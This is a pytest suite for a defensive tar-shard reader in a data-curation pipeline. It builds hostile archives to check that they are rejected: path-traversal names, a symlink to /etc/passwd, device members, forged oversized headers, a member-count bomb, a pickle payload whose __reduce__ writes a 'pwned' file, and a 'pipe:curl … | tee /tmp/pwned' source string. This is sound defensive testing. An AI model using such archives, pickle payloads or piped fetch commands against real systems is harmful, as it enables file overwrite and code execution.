"""The hostile-tar reader: every member problem is a coded reject, every shard problem a ShardError.

Tars are generated in-test with ``tarfile`` (and raw header surgery for lies ``tarfile`` will not
write); images are tiny real Pillow encodes. Nothing is ever extracted to disk.
"""

from __future__ import annotations

import io
import pickle
import tarfile
from pathlib import Path

import pytest
from PIL import Image

from mmcurate.pipeline.readers.tar_stream import ShardError, TarLimits, TarSample, iter_tar_samples, open_shard


def _jpeg(seed: int = 0) -> bytes:
    buf = io.BytesIO()
    Image.new("RGB", (8, 8), (seed % 256, 40, 90)).save(buf, format="JPEG")
    return buf.getvalue()


def _tar(members: list[tuple], fmt: int = tarfile.GNU_FORMAT, mode: str = "w") -> bytes:
    """``(name, bytes)`` regular files or ``(name, {TarInfo attributes})`` for links and devices."""
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode=mode, format=fmt) as tar:
        for name, content in members:
            info = tarfile.TarInfo(name)
            if isinstance(content, bytes):
                info.size = len(content)
                tar.addfile(info, io.BytesIO(content))
            else:
                for attr, value in content.items():
                    setattr(info, attr, value)
                tar.addfile(info)
    return buf.getvalue()


def _read(raw: bytes, limits: TarLimits | None = None) -> list[TarSample]:
    return list(iter_tar_samples(io.BytesIO(raw), limits))


def _pair(key: str, seed: int = 0) -> list[tuple[str, bytes]]:
    return [(f"{key}.jpg", _jpeg(seed)), (f"{key}.txt", f"caption {key}".encode())]


def _by_key(samples: list[TarSample]) -> dict[str, str | None]:
    return {s.key: s.reject_reason for s in samples}


def test_good_shard_round_trip() -> None:
    samples = _read(_tar(_pair("000") + _pair("001", 1) + [("./dir.with.dots/002.seg.jpg", _jpeg(2)),
                                                           ("./dir.with.dots/002.txt", b"c")]))
    assert [(s.key, s.index, sorted(s.members), s.ok) for s in samples] == [
        ("000", 0, ["jpg", "txt"], True), ("001", 1, ["jpg", "txt"], True),
        ("dir.with.dots/002", 2, ["seg.jpg", "txt"], True),
    ]
    assert samples[0].members["jpg"] == _jpeg(0)


@pytest.mark.parametrize(
    ("name", "key"), [("../evil.jpg", "../evil.jpg"), ("/abs/x.jpg", "/abs/x.jpg"), ("a/../../b.jpg", "a/../../b.jpg"),
                      ("a\\b.jpg", "a\\b.jpg"), ("noext", "noext"), (".hidden", "")],
)
def test_unsafe_names_rejected(name: str, key: str) -> None:
    samples = _read(_tar(_pair("000") + [(name, b"x")] + _pair("001")))
    assert _by_key(samples) == {"000": None, key: "unsafe_member_name", "001": None}


@pytest.mark.parametrize(
    ("member", "reason"),
    [(("000.jpg", {"type": tarfile.SYMTYPE, "linkname": "/etc/passwd"}), "link_member"),
     (("000.jpg", {"type": tarfile.LNKTYPE, "linkname": "001.jpg"}), "link_member"),
     (("000.jpg", {"type": tarfile.CHRTYPE, "devmajor": 1, "devminor": 3}), "special_member"),
     (("000.jpg", {"type": tarfile.BLKTYPE}), "special_member"), (("000.jpg", {"type": tarfile.FIFOTYPE}), "special_member")],
)
def test_links_and_devices_reject_their_sample(member: tuple, reason: str) -> None:
    samples = _read(_tar([member, ("000.txt", b"c")] + _pair("001")))
    assert _by_key(samples) == {"000": reason, "001": None}
    assert samples[0].members == {}


def test_duplicate_member_rejects_sample_not_shard() -> None:
    samples = _read(_tar([("000.jpg", _jpeg()), ("000.jpg", _jpeg(1)), ("000.txt", b"c")] + _pair("001")))
    assert _by_key(samples) == {"000": "duplicate_member", "001": None}


def test_non_adjacent_members_each_group_once() -> None:
    samples = _read(_tar([("000.jpg", _jpeg()), ("001.jpg", _jpeg()), ("001.txt", b"c"), ("000.txt", b"c")]))
    assert [(s.key, s.index, s.reject_reason) for s in samples] == [
        ("000", 0, "missing_caption"), ("001", 1, None), ("000", 2, "non_adjacent_member"),
    ]


def test_missing_pair_members() -> None:
    samples = _read(_tar([("000.txt", b"c"), ("001.jpg", _jpeg())] + _pair("002")))
    assert _by_key(samples) == {"000": "missing_image", "001": "missing_caption", "002": None}


def test_truncated_shard_yields_complete_samples_then_shard_error() -> None:
    raw = _tar(_pair("000") + _pair("001") + _pair("002"))
    offsets = [m.offset for m in tarfile.open(fileobj=io.BytesIO(raw))]
    for cut in (offsets[3] + 600, offsets[4], offsets[4] + 100, len(raw) // 2, 700):
        got: list[TarSample] = []
        with pytest.raises(ShardError) as info:
            for sample in iter_tar_samples(io.BytesIO(raw[:cut])):
                got.append(sample)
        assert info.value.reason == "shard_truncated", cut
        assert info.value.yielded == len(got) and all(s.ok for s in got)
        assert [s.key for s in got] == ["000", "001", "002"][: len(got)]
        assert len({s.key for s in got}) == len(got)  # nothing double-counted
    assert len(_read(raw)) == 3  # the uncut shard is fine


def test_gzip_and_garbage_shards() -> None:
    assert len(_read(_tar(_pair("000"), mode="w:gz"))) == 1
    with pytest.raises(ShardError) as info:
        _read(b"this is not a tar file at all" * 40)
    assert info.value.reason == "shard_corrupt"


def test_header_claiming_huge_member() -> None:
    raw = bytearray(_tar(_pair("000") + [("001.jpg", b"x" * 10)] + _pair("002")))
    header = next(m for m in tarfile.open(fileobj=io.BytesIO(bytes(raw))) if m.name == "001.jpg").offset
    info = tarfile.TarInfo("001.jpg")
    info.size = 10**12  # 1 TB, base-256 encoded by GNU format
    raw[header : header + 512] = info.tobuf(tarfile.GNU_FORMAT)
    with pytest.raises(ShardError) as err:
        _read(bytes(raw))
    assert err.value.reason == "shard_too_large" and err.value.yielded == 1
    # Under the shard cap but over the member cap: the sample is rejected without reading it.
    small = _read(_tar(_pair("000") + [("001.jpg", b"x" * 5000), ("001.txt", b"c")]), TarLimits(max_member_bytes=4096))
    assert _by_key(small) == {"000": None, "001": "member_too_large"}


def test_member_count_bomb() -> None:
    raw = _tar([(f"{i:05d}.txt", b"") for i in range(300)], fmt=tarfile.USTAR_FORMAT)
    got: list[TarSample] = []
    with pytest.raises(ShardError) as info:
        for sample in iter_tar_samples(io.BytesIO(raw), TarLimits(max_members=100)):
            got.append(sample)
    assert info.value.reason == "too_many_members" and info.value.yielded == len(got) == 100


class _Sentinel:
    def __init__(self, path: str) -> None:
        self.path = path

    def __reduce__(self):  # noqa: ANN204 - unpickling this creates the sentinel file
        return (open, (self.path, "w"))


@pytest.mark.parametrize("suffix", ["pyd", "pth", "pickle", "seg.pkl"])
def test_pickle_members_never_loaded(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, suffix: str) -> None:
    sentinel = tmp_path / "pwned"
    payload = pickle.dumps(_Sentinel(str(sentinel)))

    def forbidden(*args: object, **kwargs: object) -> None:
        raise AssertionError("the reader must never unpickle")

    monkeypatch.setattr(pickle, "loads", forbidden)
    monkeypatch.setattr(pickle, "load", forbidden)
    samples = _read(_tar([(f"000.{suffix}", payload), ("000.jpg", _jpeg()), ("000.txt", b"c")] + _pair("001")))
    assert _by_key(samples)["000"] == "unsafe_member_type" and samples[0].members == {}
    assert not sentinel.exists()


def test_pipe_and_url_sources_refused(tmp_path: Path) -> None:
    for source in ("pipe:curl -s http://x | tee /tmp/pwned", "file:///tmp/x.tar", "http://x/shard.tar"):
        with pytest.raises(ShardError) as info:
            open_shard(source)
        assert info.value.reason == "scheme_not_allowed"
    path = tmp_path / "ok.tar"
    path.write_bytes(_tar(_pair("000")))
    with open_shard(path) as f:
        assert [s.key for s in iter_tar_samples(f)] == ["000"]
